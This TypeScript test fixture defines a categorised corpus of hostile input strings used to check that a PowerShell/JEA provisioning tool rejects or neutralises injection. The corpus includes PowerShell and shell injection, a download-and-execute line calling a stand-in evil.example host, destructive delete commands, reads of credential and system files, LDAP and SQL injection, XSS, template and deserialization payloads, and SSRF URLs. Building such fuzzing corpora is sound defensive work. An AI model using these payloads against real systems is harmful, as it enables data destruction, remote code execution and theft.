/**
 * Values an attacker (or an unlucky copy-paste from a ticket) puts in string fields.
 *
 * `HOSTILE_VALUES` is the core set the PowerShell suites feed through rendering and the shell protocol: every
 * PowerShell quote character, subexpressions, escapes, statement separators, here-string terminators, control
 * characters and sheer length. Every one of them is refused by every identifier field of a request.
 *
 * `HOSTILE_CORPUS` is the full corpus (the core set included) in named categories, for the reliability suite that
 * feeds every value into every string field of every entry point (test/reliability/hostile-input*.test.ts). It holds
 * values that identifier fields may legitimately accept (`CON`, `krbtgt`, `123`): those must then pass as inert data.
 *
 * Invisible and control characters are written as escapes so that this file reads the same in every editor.
 */
const QUOTES = ["'", '"', '\u2018', '\u2019', '\u201a', '\u201b', '\u201c', '\u201d', '\u201e'];

export const HOSTILE_VALUES: string[] = [
  ...QUOTES.map((q) => `a${q}b`),
  ...QUOTES.map((q) => `x${q}; Remove-Item C:\\ -Recurse; ${q}`),
  '$(Remove-Item C:\\ -Recurse)',
  '$env:COMPUTERNAME',
  '${function:Get-Item}',
  '`$(whoami)',
  'a`nb',
  'a; Stop-Computer -Force',
  'a | Out-File C:\\pwned.txt',
  'a && calc.exe',
  'line1\nline2',
  'line1\r\nInvoke-Expression evil',
  "'@\nRemove-Item C:\\\n@'",
  '"@\nRemove-Item C:\\\n@"',
  'nul\u0000byte',
  '<#comment#>',
  '#requires -RunAsAdministrator',
  '-WhatIf:$false',
  '@{a=1}',
  'x'.repeat(100_000),
];

export const HOSTILE_CATEGORIES = [
  'powershell',
  'separators',
  'ldap-dn',
  'paths',
  'unicode',
  'control',
  'markup',
  'sql-shell',
  'length',
  'numeric-boolean',
  'windows-names',
  'domain',
  'ticket-markup',
] as const;
export type HostileCategory = (typeof HOSTILE_CATEGORIES)[number];

export interface HostileValue {
  category: HostileCategory;
  value: string;
  /** Printable, short: for test titles and failure messages. */
  label: string;
}

/** A printable, bounded rendering of any value: escapes for everything outside printable ASCII, length noted. */
export function describeHostile(value: string, max = 48): string {
  const escaped = JSON.stringify(value.length > max ? value.slice(0, max) : value)
    .slice(1, -1)
    .replace(/[^\x20-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
  return value.length > max ? `${escaped}… (${value.length} chars)` : escaped;
}

/** Six PowerShell single-quote spellings the tokenizer treats alike: ' ‘ ’ ‚ ‛ (and the doubled escape). */
const SINGLE_QUOTES = ["'", '\u2018', '\u2019', '\u201a', '\u201b'];
/** And the double quotes: " “ ” „. */
const DOUBLE_QUOTES = ['"', '\u201c', '\u201d', '\u201e'];

const BY_CATEGORY: Record<HostileCategory, string[]> = {
  powershell: [
    ...HOSTILE_VALUES,
    ...SINGLE_QUOTES.map((q) => `${q}`),
    ...SINGLE_QUOTES.map((q) => `${q}${q}`),
    ...DOUBLE_QUOTES.map((q) => `${q}`),
    ...SINGLE_QUOTES.map((q) => `${q}+$(Get-Process)+${q}`),
    ...DOUBLE_QUOTES.map((q) => `${q}$(Get-Process)${q}`),
    '@(Get-ChildItem C:\\)',
    '$true',
    '$null',
    '${env:PATH}',
    '$ExecutionContext.InvokeCommand.ExpandString("$(whoami)")',
    '& { Remove-Item C:\\ }',
    '. C:\\evil.ps1',
    '[System.Diagnostics.Process]::Start("calc")',
    '[char]36+[char]40',
    'iex (New-Object Net.WebClient).DownloadString("http://evil.example/a")',
    'powershell -EncodedCommand JABhAD0AMQA=',
    '@args',
    '`',
    '``',
    '`0',
    '`u{1F600}',
    '{ Remove-Item C:\\ }',
    "@'\nx\n'@",
    '@"\n$(whoami)\n"@',
    '#>',
    '-Confirm:$false',
    '--%',
    'Get-GmsaRunbookIdentity',
    "GroupManagedServiceAccount = 'LAB\\Administrator'",
    "RunAsVirtualAccount = $true; Description = '",
  ],
  separators: [
    ';',
    'a;b',
    'a ;; b',
    'a | b',
    'a || b',
    'a & b',
    'a &',
    'a\u037eb', // Greek question mark, looks like ;
    'a\uff1bb', // fullwidth semicolon
    'a\uff5cb', // fullwidth vertical line
    'a, b',
    'a\\nb',
    'a%0Ab',
    'a%0D%0Ab',
  ],
  'ldap-dn': [
    '*',
    '(',
    ')',
    '\\',
    '\u0000',
    '*)(objectClass=*',
    ')(|(sAMAccountName=*))',
    '*)(|(memberOf=CN=Domain Admins,CN=Users,DC=lab,DC=local))',
    'admin*',
    '\\2a',
    '\\00',
    '\\28\\29',
    ',',
    '+',
    '"',
    '<',
    '>',
    '=',
    'a,b+c"d\\e<f>g;h=i',
    '#0401',
    '#leading',
    ' leading',
    'trailing ',
    'CN=Administrator,CN=Users,DC=lab,DC=local',
    'cn=x\\,ou=evil',
    'OU=gMSA,DC=lab,DC=local;DC=evil',
    '(&(objectClass=user)(cn=*))',
  ],
  paths: [
    '..\\..\\',
    '..\\..\\Windows\\System32',
    '../../etc/passwd',
    '..',
    '.',
    '\\\\?\\C:\\Windows',
    '\\\\.\\PhysicalDrive0',
    '\\\\server1\\C$',
    '\\\\?\\UNC\\evil\\share',
    'C:\\ProgramData\\JEA\\..\\..\\Windows\\System32',
    'C:\\NUL',
    'C:\\CON\\',
    'C:\\ProgramData\\JEA\\Transcripts\\COM1',
    'C:\\AUX.txt',
    'C:\\ProgramData\\JEA\\Transcripts.',
    'C:\\ProgramData\\JEA\\Transcripts ',
    'C:\\x:stream',
    'C:\\x::$DATA',
    'C:/Windows/System32',
    'file:///C:/Windows',
    '%SystemRoot%\\System32',
    '~\\..\\..',
    'C:\\Program Files (x86)\\..\\Windows',
    'C:\\ProgramData\\JEA\\*',
    'C:\\ProgramData\\JEA\\Transcripts?',
    '/dev/null',
  ],
  unicode: [
    'Test\u202egMSA', // right-to-left override
    'gmsa\u202etxt.exe',
    'Test\u202dgMSA', // left-to-right override
    'Test\u200bgMSA', // zero-width space
    'Test\u200dgMSA', // zero-width joiner
    'Test\u200cgMSA', // zero-width non-joiner
    'Test\u2060gMSA', // word joiner
    '\ufeffTestgMSA', // byte order mark
    'Testgms\u0430', // Cyrillic а
    '\u0410dministrator', // Cyrillic А
    'L\u0410B\\JEA-Operators',
    'serv\u0435r1.lab.local', // Cyrillic е
    'Test\u0261MSA', // Latin script g
    'GmsaRem\u03bfting', // Greek ο
    '\uff34\uff45\uff53\uff54\uff47\uff2d\uff33\uff21', // fullwidth TestgMSA
    '\uff04(whoami)', // fullwidth $
    'C:\uff3cWindows', // fullwidth reverse solidus
    'e\u0301', // combining acute
    'Z\u0364\u0351\u0313a\u0308\u0356\u032dl\u036e\u0312\u036bg\u030c\u0317\u035ao\u0319\u0314\u036e', // zalgo
    '\u{1f600}',
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', // ZWJ family
    '\u{1f1fa}\u{1f1f8}', // flag
    'a\ud800b', // unpaired high surrogate
    'a\udc00b', // unpaired low surrogate
    '\udc00\ud800', // reversed pair
    '\ud83d', // half an emoji
    '\uffff',
    '\ufffd',
    'a\u2028b', // line separator
    'a\u2029b', // paragraph separator
    '\u00a0', // no-break space
    '\u3000', // ideographic space
    'Test\u00a0gMSA',
    '\u212aerberos', // Kelvin sign: lower-cases to k
    'd\u0131sable', // dotless i
    '\u0130stanbul', // dotted capital I
    'stra\u00dfe',
    '\ufb01le', // fi ligature
    '\u{1d400}dmin', // mathematical bold A
    'tag\u{e0041}\u{e0042}', // tag characters
    'xn--80ak6aa92e',
    '\u0442\u0435\u0441\u0442.lab.local', // IDN
    '\u0661\u0662\u0663', // Arabic-Indic digits
    '\uff11\uff12\uff13', // fullwidth digits
  ],
  control: [
    '\u0000',
    'a\u0000',
    '\u0007',
    'a\u0008b',
    '\u001b',
    '\u001b[31mred\u001b[0m',
    '\u001b[2J\u001b[H',
    '\u001b]0;pwned\u0007',
    '\u001b[1A\u001b[2K- gmsa.name: ok',
    'approved\rrejected',
    '\r',
    '\n',
    '\r\n',
    'a\tb',
    '\t',
    'a\u000bb',
    'a\u000cb',
    'a\u007fb',
    'a\u0085b', // NEL (C1)
    'a\u009b31mb', // CSI (C1)
    'a\u001fb',
    'TestgMSA\n',
    '\nTestgMSA',
  ],
  markup: [
    '</script><script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg/onload=alert(1)>',
    '{{7*7}}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    "{{constructor.constructor('return process')()}}",
    '%s%n%x%d',
    '%n%n%n%n',
    '%00',
    '%2e%2e%2f',
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    '{"__proto__":{"polluted":true}}',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///C:/Windows/win.ini">]><x>&e;</x>',
    ']]>',
    '<![CDATA[x]]>',
    '&amp;&lt;&#0;',
    '!!python/object/apply:os.system ["id"]',
    'key: value',
    '- item',
    '*alias',
    '---',
    '~',
    '{"a":1}',
    '[1,2]',
    '\\u0000',
    '\\"',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
  ],
  'sql-shell': [
    "'; DROP TABLE users; --",
    "1' OR '1'='1",
    '" OR ""="',
    '; rm -rf /',
    '`id`',
    '$(id)',
    '| id',
    '&& id',
    '|| id',
    '> /dev/null',
    '< /etc/passwd',
    'cmd /c calc',
    '%COMSPEC% /c calc',
    '^&calc',
    '$((1+1))',
    '$IFS',
    '{a,b}',
    '!!',
    '?',
  ],
  length: [
    '',
    ' ',
    '   ',
    '\u00a0\u00a0',
    'A'.repeat(14),
    'A'.repeat(15),
    'A'.repeat(16),
    'a'.repeat(63),
    'a'.repeat(64),
    'a'.repeat(65),
    'a'.repeat(128),
    'a'.repeat(129),
    'a'.repeat(200),
    'a'.repeat(201),
    'a'.repeat(256),
    `${'a'.repeat(64)}.lab.local`,
    `${'a'.repeat(250)}.lab.local`,
    'x'.repeat(65_536),
    'x'.repeat(1_000_000),
    ' TestgMSA',
    'TestgMSA ',
  ],
  'numeric-boolean': [
    '0',
    '-1',
    '1e308',
    'NaN',
    'Infinity',
    '-Infinity',
    '0x41',
    '007',
    '9007199254740993',
    '-0',
    '1.0',
    'true',
    'false',
    'True',
    'null',
    'undefined',
    'None',
    'yes',
    'no',
    'on',
    'off',
    '[]',
    '{}',
  ],
  'windows-names': [
    'CON',
    'PRN',
    'AUX',
    'NUL',
    'COM1',
    'LPT9',
    'CONIN$',
    'CONOUT$',
    'CLOCK$',
    'COM\u00b9', // COM¹ is a device name too
    'nul.txt',
    'con.lab.local',
    'Administrator$',
    'krbtgt$',
    'SERVER1$',
    'DC1$',
    'TestgMSA$',
    '$',
    'a$b',
    'Guest',
  ],
  domain: [
    'LAB\\..\\Administrator',
    'LAB\\Administrator',
    'Administrator',
    'krbtgt',
    'Domain Admins',
    'LAB\\Domain Admins',
    'Enterprise Admins',
    'Schema Admins',
    'Administrators',
    'BUILTIN\\Administrators',
    'NT AUTHORITY\\SYSTEM',
    'Everyone',
    'S-1-5-32-544',
    'S-1-5-18',
    'S-1-1-0',
    'S-1-5-21-1004336348-1177238915-682003330-512',
    'administrator@lab.local',
    'LAB.LOCAL\\Administrator',
    'LAB\\\\Administrator',
    'lab.local',
    'dc1.lab.local',
    'server1.lab.local.evil.example',
    'server1.lab.local.',
    '*.lab.local',
    'localhost',
    '127.0.0.1',
    '::1',
    '169.254.169.254',
    'Microsoft.PowerShell',
    'microsoft.powershell32',
    'JEA-Operators',
    'gMSA-Remoting-Hosts',
    'OPS-424242',
    '[gmsa-runbooks:gmsa-provision-OPS-424242/00000000-0000-0000-0000-000000000000]',
  ],
  'ticket-markup': [
    '{code}Remove-Item C:\\ -Recurse{code}',
    '{noformat}$(whoami){noformat}',
    '[click|javascript:alert(1)]',
    '[~accountid:5b10a2844c20165700ede21g]',
    '{color:red}approved{color}',
    'h1. Approved',
    '!https://evil.example/pixel.png!',
    '{"type":"doc","version":1,"content":[{"type":"paragraph","content":[{"type":"text","text":"x"}]}]}',
    '[code]<script>alert(1)</script>[/code]',
    '[code]<img src=x onerror=alert(1)>[/code]',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(document.domain)',
    ' javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'https://evil.example/@tickets.lab.local',
    'https://tickets.lab.local@evil.example/',
    'http://169.254.169.254/latest/meta-data/',
    '[x](javascript:alert(1))',
    '@here <!channel>',
  ],
};

function build(): HostileValue[] {
  const seen = new Set<string>();
  const out: HostileValue[] = [];
  for (const category of HOSTILE_CATEGORIES) {
    for (const value of BY_CATEGORY[category]) {
      if (seen.has(value)) continue; // a value lives in the first category that names it
      seen.add(value);
      out.push({ category, value, label: describeHostile(value) });
    }
  }
  return out;
}

/** The full corpus: distinct values, each in one named category. */
export const HOSTILE_CORPUS: readonly HostileValue[] = build();
